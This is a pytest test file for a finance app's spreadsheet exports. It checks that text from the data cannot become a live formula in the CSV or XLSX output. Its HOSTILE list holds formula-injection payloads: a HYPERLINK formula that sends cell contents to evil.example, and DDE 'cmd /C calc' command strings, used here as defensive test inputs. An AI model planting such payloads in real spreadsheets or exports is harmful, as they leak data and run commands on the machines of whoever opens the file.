"""Issue 14, attack 3: text from the data must never become a live formula in a CSV/XLSX export.

Measured before the fix: a company name ``=HYPERLINK("http://...")`` became a formula in the
AR-aging XLSX, a partner's sales-report text a formula in the reconciliation XLSX, and CSV exports
wrote a leading ``=`` unescaped. Also Streamlit's own table download (which escapes nothing) was on.
"""

from __future__ import annotations

import ast
import csv
import io
import subprocess
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from apps import exports

REPO = Path(__file__).resolve().parents[1]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]


def _aging_like() -> pd.DataFrame:
    """Shape of the AR-aging export: text, money (negative credit notes too), dates, counts."""
    n = len(HOSTILE)
    return pd.DataFrame({
        "account_name": HOSTILE,
        "contract_no": ["=1+1"] + [f"HT-{i}" for i in range(1, n)],
        "open_amount": [Decimal("-120.50")] + [Decimal("1000.00")] * (n - 1),
        "days_overdue": [-3] + list(range(1, n)),
        "due_date": [date(2026, 11, 30)] * n,
        "bucket": ["0-30"] * n,
    })


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_text_gets_an_apostrophe(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["深圳华为", "HT-001", "a=b", "1-2", "", "'already"])
def test_ordinary_text_is_left_alone(text):
    assert exports.neutralise(text) == text


def test_no_cell_of_an_xlsx_export_is_a_formula_and_numbers_stay_numbers():
    frame = _aging_like()
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx({"installments": frame, "rollup": frame})))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(exports.FORMULA_LEADS), cell.value
                assert cell.hyperlink is None
    rows = list(book["installments"].iter_rows(values_only=True))
    assert rows[0] == ("account_name", "contract_no", "open_amount", "days_overdue", "due_date", "bucket")
    assert rows[1][0] == "'" + HOSTILE[0]
    assert rows[1][2] == -120.5 and rows[1][3] == -3  # a negative number is a number, not text


def test_a_hostile_sheet_name_does_not_break_the_workbook():
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx({"2026/11:[x]*?" * 5: _aging_like()})))
    assert len(book.sheetnames[0]) <= 31 and "/" not in book.sheetnames[0]


def test_no_cell_of_a_csv_export_starts_a_formula():
    frame = _aging_like()
    data = exports.to_csv(frame)
    assert data.startswith("\ufeff".encode())  # Excel reads the Chinese text as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(frame) + 1
    for row in rows[1:]:
        assert not row[0].startswith(exports.FORMULA_LEADS) and not row[1].startswith(exports.FORMULA_LEADS)
    assert rows[1][2] == "-120.50"  # numbers are not touched


def _download_calls(path: Path) -> list[ast.Call]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
            and n.func.attr == "download_button"]


def test_every_download_button_of_the_apps_goes_through_exports():
    pages = sorted((REPO / "apps").rglob("*.py"))
    calls = [(p, c) for p in pages for c in _download_calls(p)]
    assert len(calls) >= 8  # aging x2, payment risk, overdue, DSO, commissions x2, reconciliation
    for path, call in calls:
        data = call.args[1] if len(call.args) > 1 else next(k.value for k in call.keywords if k.arg == "data")
        for produced in _what_the_button_downloads(path, data):
            source = ast.unparse(produced)
            assert source.startswith("exports.to_"), f"{path.relative_to(REPO)}: {source}"
    for path in pages:  # nobody writes a workbook or CSV around the safe functions
        if path.name != "exports.py":
            text = path.read_text(encoding="utf-8")
            assert ".to_excel(" not in text and ".to_csv(" not in text.replace("exports.to_csv(", ""), path


def _what_the_button_downloads(path: Path, data: ast.expr) -> list[ast.expr]:
    """The bytes' expressions: the data itself, or what a lazy callable (lambda, local function) returns."""
    if isinstance(data, ast.Lambda):
        return [data.body]
    if isinstance(data, ast.Name):
        defined = [n for n in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
                   if isinstance(n, ast.FunctionDef) and n.name == data.id]
        assert len(defined) == 1, f"{path.relative_to(REPO)}: {data.id} is not one local function"
        returned = [n.value for n in ast.walk(defined[0]) if isinstance(n, ast.Return)]
        assert returned and all(r is not None for r in returned), f"{path.relative_to(REPO)}: {data.id}"
        return returned
    return [data]


def test_streamlits_own_table_download_is_off_and_the_apps_listen_on_this_machine_only():
    shown = subprocess.run([sys.executable, "-m", "streamlit", "config", "show"], cwd=REPO,
                           capture_output=True, text=True, check=True).stdout
    assert "\ndisableDataExport = true" in shown
    assert '\naddress = "127.0.0.1"' in shown
    make = subprocess.run(["make", "-n", "apps"], cwd=REPO, capture_output=True, text=True).stdout
    assert "--server.address 127.0.0.1" in make
